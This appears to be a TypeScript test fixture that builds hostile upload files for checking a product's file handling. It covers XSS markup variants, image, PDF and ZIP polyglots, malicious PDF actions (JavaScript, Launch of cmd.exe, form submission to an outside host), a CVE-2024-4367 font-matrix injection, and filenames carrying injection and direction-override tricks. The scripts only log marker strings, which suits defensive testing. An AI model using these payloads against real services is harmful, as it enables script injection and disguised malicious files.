import { zipSync } from 'fflate';
import { pdfOf } from '../pdf.ts';

/** What a script in a file says when it runs, in whatever page or worker. */
export const said = (id: number) => `EXECUTED-${id}`;
export const idIn = (text: string) => Number(/^EXECUTED-(\d+)$/.exec(text)?.[1] ?? NaN);

export type HostileFile = {
  id: number;
  name: string;
  content: Buffer;
  /** What a careless product would send it as. */
  type: string;
};

const js = (id: number) => `console.log('${said(id)}')`;

/** Markup that runs a script as soon as a browser takes it for a page. */
const pages: ((id: number) => string)[] = [
  (id) => `<script>${js(id)}</script>`,
  (id) => `<!doctype html><img src="x:" onerror="${js(id)}">`,
  (id) => `<body onload="${js(id)}">`,
  (id) => `<svg onload="${js(id)}"></svg>`,
  (id) => `<iframe srcdoc="&lt;script&gt;${js(id)}&lt;/script&gt;"></iframe>`,
  (id) => `<details open ontoggle="${js(id)}"><summary>x</summary></details>`,
  (id) => `<input autofocus onfocus="${js(id)}">`,
  (id) => `<video><source src="x:" onerror="${js(id)}"></video>`,
  (id) => `<style onload="${js(id)}"></style>`,
  (id) =>
    `<math><mtext><table><mglyph><style><img src="x:" onerror="${js(id)}"></style></mglyph></table></mtext></math><img src="x:" onerror="${js(id)}">`,
  (id) => `<script type="module">${js(id)}</script>`,
  (id) => `<object data="data:text/html,x" onload="${js(id)}"></object><script>${js(id)}</script>`,
];

const drawings: ((id: number) => string)[] = [
  (id) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${js(id)}</script></svg>`,
  (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`,
  (id) =>
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="${js(id)}" attributeName="x" dur="1s"/></svg>`,
  (id) =>
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" ><img src="x:" onerror="${js(id)}"/></body></foreignObject></svg>`,
  (id) => `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${js(id)}</script></body></html>`,
];

/** The beginning of each kind that is accepted by its content, with markup where the kind permits anything. */
const disguises: { ending: string; wrap: (markup: string) => Buffer }[] = [
  { ending: 'txt', wrap: (markup) => Buffer.from(markup) },
  { ending: 'csv', wrap: (markup) => Buffer.from(`code,note\n1,"${markup}"\n`) },
  {
    ending: 'eml',
    wrap: (markup) =>
      Buffer.from(
        `From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${markup}\r\n`,
      ),
  },
  { ending: 'gif', wrap: (markup) => Buffer.concat([gif(), Buffer.from(`\x21\xfe${markup}`, 'latin1')]) },
  { ending: 'png', wrap: (markup) => Buffer.concat([png(), Buffer.from(markup)]) },
  {
    ending: 'jpg',
    wrap: (markup) => {
      const comment = Buffer.from(markup);
      const head = Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 0]);
      head.writeUInt16BE(comment.length + 2, 4);
      return Buffer.concat([head, comment, Buffer.from([0xff, 0xd9])]);
    },
  },
  {
    ending: 'webp',
    wrap: (markup) => {
      const head = Buffer.from('RIFF\0\0\0\0WEBPVP8 \0\0\0\0', 'latin1');
      head.writeUInt32LE(markup.length + 12, 4);
      return Buffer.concat([head, Buffer.from(markup)]);
    },
  },
  { ending: 'pdf', wrap: (markup) => Buffer.from(`%PDF-1.7\n${markup}\n%%EOF\n`) },
  {
    ending: 'zip',
    wrap: (markup) =>
      Buffer.concat([Buffer.from(zipSync({ 'a.html': Buffer.from(markup) })), Buffer.from(markup)]),
  },
];

const gif = () => Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64');
const png = () =>
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwADBwIAMCbHYQAAAABJRU5ErkJggg==',
    'base64',
  );

/** Actions of a PDF that readers with scripts run when it is opened, drawn, pressed or closed. */
const actions: ((id: number) => string)[] = [
  (id) => `/OpenAction << /S /JavaScript /JS (${js(id)}; app.alert\\(1\\)) >>`,
  (id) => `/AA << /O << /S /JavaScript /JS (${js(id)}) >> /WC << /S /JavaScript /JS (${js(id)}) >> >>`,
  (id) => `/OpenAction << /S /URI /URI (javascript:${js(id)}) >>`,
  () => `/OpenAction << /S /URI /URI (https://elsewhere.example/opened) >>`,
  () => `/OpenAction << /S /Launch /F (cmd.exe) >>`,
  () => `/OpenAction << /S /SubmitForm /F (https://elsewhere.example/form) /Flags 4 >>`,
  () => `/OpenAction << /S /GoToR /F (https://elsewhere.example/other.pdf) /D [0 /Fit] >>`,
  () => `/OpenAction << /S /ImportData /F (https://elsewhere.example/data.fdf) >>`,
  (id) => `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js(id)}) >>] >> >>`,
  (id) =>
    `/AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${js(id)}</script></event></subform></template></xdp:xdp>) >>`,
];

/** A font matrix that once became code in a PDF library (CVE-2024-4367). */
const fontMatrix = (id: number) => `/FontMatrix [1 2 3 4 5 (0\\); ${js(id)}//)]`;

/** A PDF with this in its catalog, a link that is a script, and what its font says of itself. */
const pdfWith = (catalog: string, font = '') =>
  Buffer.from(
    pdfOf(['Invoice'], {
      catalog,
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
    })
      .toString('latin1')
      .replace('/BaseFont', `${font} /BaseFont`),
    'latin1',
  );

/** Files that are accepted, each with a script that runs where it is taken for a page. */
export function hostileFiles(): HostileFile[] {
  const files: Omit<HostileFile, 'id'>[] = [];
  const add = (name: string, type: string, make: (id: number) => Buffer) =>
    files.push({ name, type, content: make(files.length) });
  for (const [shape, markup] of pages.entries())
    for (const [index, { ending, wrap }] of disguises.entries())
      if ((shape + index) % 3 === 0) add(`page ${shape}.${ending}`, 'text/html', (id) => wrap(markup(id)));
  for (const [shape, markup] of drawings.entries())
    add(`drawing ${shape}.txt`, shape === 4 ? 'application/xhtml+xml' : 'image/svg+xml', (id) =>
      Buffer.from(markup(id)),
    );
  for (const [shape, action] of actions.entries())
    add(`action ${shape}.pdf`, 'application/pdf', (id) => pdfWith(action(id)));
  add('font.pdf', 'application/pdf', (id) => pdfWith('', fontMatrix(id)));
  return files.map((file, id) => ({ ...file, id }));
}

/** What is refused under any name that a browser or a desktop would run. */
export const refusedNames = [
  'x.html',
  'x.htm',
  'x.svg',
  'x.xhtml',
  'x.js',
  'x.hta',
  'x.exe',
  'x.xml',
  'x.mht',
  'x.url',
];

/** Names that are markup, direction marks and paths; each is shown as text, or refused. */
export const hostileNames = [
  `<img src=x: onerror="${js(9001)}">.txt`,
  `"><script>${js(9002)}<.txt`,
  `javascript:${js(9003)}.txt`,
  `{{constructor.constructor('${js(9004)}')()}}.txt`,
  `\${${js(9005)}}.txt`,
  `invoice\u202Efdp.txt`,
  `<svg onload="${js(9006)}">.pdf`,
];
